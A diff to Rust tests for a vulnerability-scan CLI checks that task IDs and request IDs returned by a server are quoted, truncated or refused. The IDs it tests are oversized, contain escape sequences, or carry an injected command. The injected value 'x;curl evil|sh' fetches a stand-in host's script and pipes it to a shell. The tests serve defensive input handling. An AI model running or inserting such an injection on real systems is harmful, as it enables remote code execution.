@@ -85,12 +85,59 @@ fn a_command_to_paste_runs_nothing_that_a_server_named() {
     let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
     assert_eq!(started.printed(), "x;curl evil|sh\n");
     assert_eq!(started.stderr, "started; follow it with: hss scan wait 'x;curl evil|sh'\n");
-    let server = Canned::new([canned::json(200, &json!({"task_id": "--html=\u{1b}[2J"}).to_string())]);
+    let server = Canned::new([canned::json(200, &json!({"task_id": "--html=x y"}).to_string())]);
     let started = run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"]));
-    assert_eq!(started.stderr, "started; follow it with: hss scan wait -- $'--html=\\033[2J'\n");
+    assert_eq!(started.stderr, "started; follow it with: hss scan wait -- '--html=x y'\n");
     // What is printed is what a command takes.
     let server = Canned::new([canned::json(200, r#"{"total_num":1,"data_list":[{"id":"-x","status":"finished"}]}"#)]);
     run(&mut hss_at(&server.url, &["scan", "wait", "--", "-x"])).printed();
+}
+
+#[test]
+fn ids_of_requests_are_cut_in_messages() {
+    let answer = |body: &Value| {
+        let mut answer = canned::json(200, &body.to_string());
+        answer.headers.insert("X-Request-Id".to_owned(), "r".repeat(60_000));
+        answer
+    };
+    let nothing = json!({"total_num": 0, "data_list": []});
+    for (body, arguments) in [
+        (&nothing, &["scan", "list", "-v"][..]),
+        (&nothing, &["scan", "show", "t1"]),
+        (&nothing, &["api", "ListVulScanTask", "-v"]),
+        (&json!({}), &["scan", "start", "--all-hosts"]),
+    ] {
+        let server = Canned::new([answer(body)]);
+        let ran = run(&mut hss_at(&server.url, arguments));
+        assert!(ran.stderr.contains("rrr…") && ran.stderr.len() < 700, "{arguments:?}: {} bytes", ran.stderr.len());
+    }
+}
+
+#[test]
+fn the_id_of_a_task_that_cannot_be_shown_is_refused_and_the_scan_is_said_to_have_started() {
+    for (id, said) in [
+        ("x".repeat(3_000_000), "the answer names a task by an id of 3000000 characters"),
+        ("x".repeat(257), "the answer names a task by an id of 257 characters"),
+        ("t\u{1b}[2J".to_owned(), "the answer names a task by an id with hidden characters"),
+        ("t\n2".to_owned(), "the answer names a task by an id with hidden characters"),
+        (String::new(), "the answer names no task"),
+    ] {
+        for more in [&[][..], &["--wait"], &["-q", "-o", "json"]] {
+            let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
+            let ran = run(hss_at(&server.url, &["scan", "start", "--all-hosts"]).args(more));
+            let said = format!("hss: CreateVulnerabilityScanTask: {said} (request id ");
+            assert!(ran.failed_with(1).starts_with(&said), "{more:?}: {}", ran.stderr);
+            assert!(
+                ran.stderr.ends_with("). The scan has started: see hss scan list --max 5\n"),
+                "{more:?}: {}",
+                ran.stderr
+            );
+            assert_eq!(server.requests().len(), 1, "{more:?}");
+        }
+    }
+    let id = "x".repeat(256);
+    let server = Canned::new([canned::json(200, &json!({"task_id": id}).to_string())]);
+    assert_eq!(run(&mut hss_at(&server.url, &["scan", "start", "--all-hosts"])).printed(), format!("{id}\n"));
 }
 
 #[test]
